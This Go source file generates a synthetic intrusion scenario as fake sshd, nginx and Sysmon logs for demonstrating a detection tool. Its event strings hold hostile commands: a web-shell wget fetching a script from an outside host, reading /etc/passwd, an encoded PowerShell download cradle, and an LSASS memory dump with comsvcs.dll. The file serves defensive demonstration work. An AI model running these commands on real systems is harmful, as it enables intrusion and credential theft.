// Package demo generates wacht's own demonstration scenario — a small,
// realistic intrusion told across three sources — and replays it into a
// running node through the same listeners real shippers use:
//
//  1. sshd on the web server web01 (RFC 5424 syslog over TCP): a password
//     spray from 203.0.113.77, then a successful login as "deploy";
//  2. the web server's access log (Splunk HEC): scanning, then a web shell
//     upload and commands through it;
//  3. Windows workstation WS-042 (Winlogbeat documents over the
//     Elasticsearch _bulk API): a macro document starts an encoded
//     PowerShell, reconnaissance, and an LSASS memory dump.
//
// Every event is generated here, relative to the time of the run; nothing
// is read from recorded data.
package demo

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
	"unicode/utf16"
)

// Attacker and victim names used throughout the story.
const (
	AttackerIP  = "203.0.113.77"
	WebHost     = "web01"
	Workstation = "WS-042"
	User        = "j.doe"
)

// Scenario is the generated story.
type Scenario struct {
	// Syslog holds RFC 5424 messages from sshd.
	Syslog []string
	// Web holds HEC envelopes with access-log events.
	Web []map[string]any
	// Windows holds Winlogbeat-shaped documents.
	Windows []map[string]any
}

// Events is the total number of events.
func (s Scenario) Events() int { return len(s.Syslog) + len(s.Web) + len(s.Windows) }

// Generate builds the scenario ending shortly before now. seed makes it
// reproducible.
func Generate(now time.Time, seed uint64) Scenario {
	r := rand.New(rand.NewPCG(seed, seed^0x5eed))
	t := now.Add(-30 * time.Minute).UTC()
	var s Scenario
	step := func(d time.Duration) time.Time {
		t = t.Add(d + time.Duration(r.IntN(900))*time.Millisecond)
		return t
	}
	// Background noise: normal logins and page views.
	for i := 0; i < 20; i++ {
		s.Syslog = append(s.Syslog, sshd(step(20*time.Second), r, fmt.Sprintf("Accepted publickey for ops from 10.0.0.%d port %d ssh2: ED25519 SHA256:Zk3…", 10+i%5, 40000+r.IntN(20000))))
		s.Web = append(s.Web, access(step(3*time.Second), "10.0.0."+fmt.Sprint(20+i%7), "GET", []string{"/", "/about", "/products", "/contact"}[i%4], 200, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"))
	}
	// 1. Password spray against sshd.
	for i, u := range []string{"admin", "root", "test", "oracle", "ubuntu", "git", "postgres", "deploy", "admin", "user", "ftp", "guest"} {
		for j := 0; j < 3; j++ {
			s.Syslog = append(s.Syslog, sshd(step(400*time.Millisecond), r, fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", u, AttackerIP, 50000+i*10+j)))
		}
	}
	s.Syslog = append(s.Syslog, sshd(step(2*time.Second), r, fmt.Sprintf("Accepted password for deploy from %s port 51234 ssh2", AttackerIP)))
	s.Syslog = append(s.Syslog, sshd(step(time.Second), r, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"))
	// 2. Web: scan, upload, web shell.
	for _, p := range []string{"/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/admin/", "/server-status", "/backup.zip", "/uploads/"} {
		s.Web = append(s.Web, access(step(300*time.Millisecond), AttackerIP, "GET", p, 404, "Mozilla/5.0 zgrab/0.x"))
	}
	s.Web = append(s.Web, access(step(5*time.Second), AttackerIP, "POST", "/uploads/upload.php", 200, "python-requests/2.31"))
	for _, c := range []string{"id", "uname -a", "cat /etc/passwd", "wget http://198.51.100.23/x.sh -O /tmp/x.sh"} {
		s.Web = append(s.Web, access(step(4*time.Second), AttackerIP, "GET", "/uploads/shell.php?cmd="+strings.ReplaceAll(c, " ", "%20"), 200, "python-requests/2.31"))
	}
	// 3. Windows workstation.
	ps := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"
	enc := base64.StdEncoding.EncodeToString(utf16le(ps))
	proc := func(img, cmd, parent, parentCmd string) map[string]any {
		return sysmon1(step(2*time.Second), r, img, cmd, parent, parentCmd)
	}
	for i := 0; i < 5; i++ {
		s.Windows = append(s.Windows, proc(`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"OUTLOOK.EXE" /recycle`, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`))
	}
	s.Windows = append(s.Windows,
		proc(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"WINWORD.EXE" /n "C:\Users\j.doe\Downloads\Invoice_4471.docm"`, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`),
		proc(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -enc `+enc, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"WINWORD.EXE" /n "C:\Users\j.doe\Downloads\Invoice_4471.docm"`),
		proc(`C:\Windows\System32\whoami.exe`, `whoami /all`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -enc `+enc),
		proc(`C:\Windows\System32\net.exe`, `net user /domain`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -enc `+enc),
		proc(`C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -enc `+enc),
		proc(`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 664 C:\Users\Public\lsass.dmp full`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -enc `+enc),
	)
	return s
}

func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return b
}

func sshd(t time.Time, r *rand.Rand, msg string) string {
	// <38> = facility auth (4), severity info (6).
	return fmt.Sprintf("<38>1 %s %s sshd %d - - %s", t.Format(time.RFC3339Nano), WebHost, 1000+r.IntN(30000), msg)
}

func access(t time.Time, ip, method, path string, status int, ua string) map[string]any {
	line := fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d %d "-" "%s"`, ip, t.Format("02/Jan/2006:15:04:05 -0700"), method, path, status, 512+len(path)*7, ua)
	return map[string]any{
		"time":       float64(t.UnixMilli()) / 1000,
		"host":       WebHost,
		"source":     "/var/log/nginx/access.log",
		"sourcetype": "nginx:access",
		"event": map[string]any{
			"message":                   line,
			"source.ip":                 ip,
			"http.request.method":       method,
			"url.original":              path,
			"http.response.status_code": status,
			"user_agent.original":       ua,
		},
	}
}

func sysmon1(t time.Time, r *rand.Rand, img, cmd, parent, parentCmd string) map[string]any {
	guid := func() string {
		return fmt.Sprintf("{%08x-%04x-%04x-%04x-%012x}", r.Uint32(), r.IntN(1<<16), r.IntN(1<<16), r.IntN(1<<16), r.Uint64()&(1<<48-1))
	}
	return map[string]any{
		"@timestamp": t.Format(time.RFC3339Nano),
		"message":    "Process Create:\nImage: " + img + "\nCommandLine: " + cmd,
		"host":       map[string]any{"name": Workstation},
		"agent":      map[string]any{"type": "winlogbeat", "version": "8.11.0"},
		"winlog": map[string]any{
			"channel":       "Microsoft-Windows-Sysmon/Operational",
			"provider_name": "Microsoft-Windows-Sysmon",
			"event_id":      "1",
			"computer_name": Workstation + ".corp.example",
			"record_id":     r.IntN(1_000_000),
			"event_data": map[string]any{
				"UtcTime":           t.Format("2006-01-02 15:04:05.000"),
				"ProcessGuid":       guid(),
				"ProcessId":         fmt.Sprint(1000 + r.IntN(9000)),
				"Image":             img,
				"CommandLine":       cmd,
				"CurrentDirectory":  `C:\Users\` + User + `\`,
				"User":              `CORP\` + User,
				"IntegrityLevel":    "Medium",
				"ParentProcessGuid": guid(),
				"ParentProcessId":   fmt.Sprint(1000 + r.IntN(9000)),
				"ParentImage":       parent,
				"ParentCommandLine": parentCmd,
				"Hashes":            "SHA256=" + strings.ToUpper(hex.EncodeToString(func() []byte { h := sha256.Sum256([]byte(img)); return h[:] }())),
			},
		},
	}
}

// BulkBody renders the Windows documents as an Elasticsearch _bulk body.
func (s Scenario) BulkBody() []byte {
	var b strings.Builder
	for _, d := range s.Windows {
		b.WriteString(`{"create":{"_index":"winlogbeat-8.11.0"}}` + "\n")
		j, _ := json.Marshal(d)
		b.Write(j)
		b.WriteByte('\n')
	}
	return []byte(b.String())
}

// HECBody renders the web events as concatenated HEC envelopes.
func (s Scenario) HECBody() []byte {
	var b strings.Builder
	for _, e := range s.Web {
		j, _ := json.Marshal(e)
		b.Write(j)
		b.WriteByte('\n')
	}
	return []byte(b.String())
}

// SyslogFrames renders the sshd messages with RFC 6587 octet counting.
func (s Scenario) SyslogFrames() []byte {
	var b strings.Builder
	for _, m := range s.Syslog {
		fmt.Fprintf(&b, "%d %s", len(m), m)
	}
	return []byte(b.String())
}
